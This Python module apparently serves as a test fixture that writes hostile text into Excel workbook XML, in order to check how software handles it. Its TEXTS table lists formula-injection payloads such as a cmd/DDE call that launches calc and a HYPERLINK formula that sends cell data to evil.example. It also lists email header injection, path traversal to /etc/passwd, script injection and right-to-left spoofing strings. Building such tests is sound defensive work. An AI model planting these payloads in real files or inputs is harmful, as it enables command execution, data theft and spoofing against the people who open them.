"""What somebody might type to make a program run it, follow it, choke on it or show it as something else.

A typed text gets into a workbook as a token that any library writes, and `put_in` then puts the text in the token's
place in the file's own XML: that way every character arrives that Excel itself could have saved.
"""

import io
import re
import zipfile
from xml.sax.saxutils import escape

# as the file's XML has them: _xHHHH_ is a character that XML cannot hold, _x005F_ an underscore that is meant as one
TEXTS = {
    "a command": "=cmd|'/C calc'!A0",
    "a dynamic exchange": '=DDE("cmd";"/C calc";"1")',
    "a link formula": '=HYPERLINK("http://evil.example/?"&A1,"見る")',
    "a web service": '=WEBSERVICE("http://evil.example/")',
    "another file": "='[evil.xlsx]S'!A1",
    "an array": "{=1+1}",
    "a function": "@SUM(1+1)",
    "a plus": "+1+1",
    "a minus": "-1+1",
    "a full-width equals sign": "＝1+1",
    "a tab": "&#9;=1+1",
    "a carriage return": "_x000D_=1+1",
    "a line feed": "&#10;=1+1",
    "an apostrophe": "'=1+1",
    "a comma and quotation marks": '",=1+1,"',
    "a field's end and a new record": '"&#10;=1+1,',
    "a header line": "課&#10;Bcc: evil@example.com&#10;&#10;本文",
    "a header line after a carriage return": "課_x000D_Bcc: evil@example.com",
    "an address": "http://evil.example/a?b=c&d",
    "a file's address": "file://evil/share/x",
    "an inner address": "internal:総括!A1",
    "a mail address": "mailto:evil@example.com",
    "an escape": "_x005F_x000D_",
    "nothing within": "前_x0000__x0001__x0008__x000B__x001F_後",
    "no character": "前\ufffe\uffff後",
    "half a character": "_xD800_と_xDFFF_",
    "right to left": "_x202E_xslx.文書\u202exslx.\u2066文\u2069",
    "an element": "</t></si><script>alert(1)</script><![CDATA[&amp;&#0;]]>",
    "a footer's codes": '&P&"Arial"&G&F',
    "a sheet's name": "総括'!A1:[]*?/\\",
    "a field in braces": "{担当課}{0}{value.__class__}%s%(x)s",
    "a path": "../../../etc/passwd",
    "a combining flood": "Z" + "\u0335\u0489" * 50,
    "beyond the basic plane": "𠮷野家👨‍👩‍👧‍👦",
    "much": "長" * 40_000,
}  # fmt: skip


def typed(raw):
    """Return the text that a file's XML stands for."""
    text = re.sub(r"&#(9|10);", lambda match: chr(int(match[1])), raw)
    return re.sub(
        r"_x([0-9A-F]{4})_",
        lambda match: match[0] if "D800" <= match[1] <= "DFFF" or match[1] == "202E" else chr(int(match[1], 16)),
        text,
    )


def token(number):
    """Return the token that stands for the text of that number, in the order of TEXTS."""
    return f"HOST{number:03d}X"


def put_in(workbook):
    """Return a workbook with every token replaced by its text."""
    replaced = io.BytesIO()
    raw = {token(number).encode(): _xml(text) for number, text in enumerate(TEXTS.values())}
    with (
        zipfile.ZipFile(io.BytesIO(workbook)) as source,
        zipfile.ZipFile(replaced, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            content = source.read(name)
            if b"HOST" in content:
                content = re.sub(rb"<t>([^<]*HOST)", rb'<t xml:space="preserve">\1', content)
                content = re.sub(rb"HOST\d{3}X", lambda match: raw[match[0]], content)
            target.writestr(name, content)
    return replaced.getvalue()


def _xml(raw):
    """Escape a text, but for the characters that it has written as &#9; on purpose."""
    parts = re.split(r"(&#(?:9|10);)", raw)
    return "".join(part if part.startswith("&#") and part.endswith(";") else escape(part) for part in parts).encode()
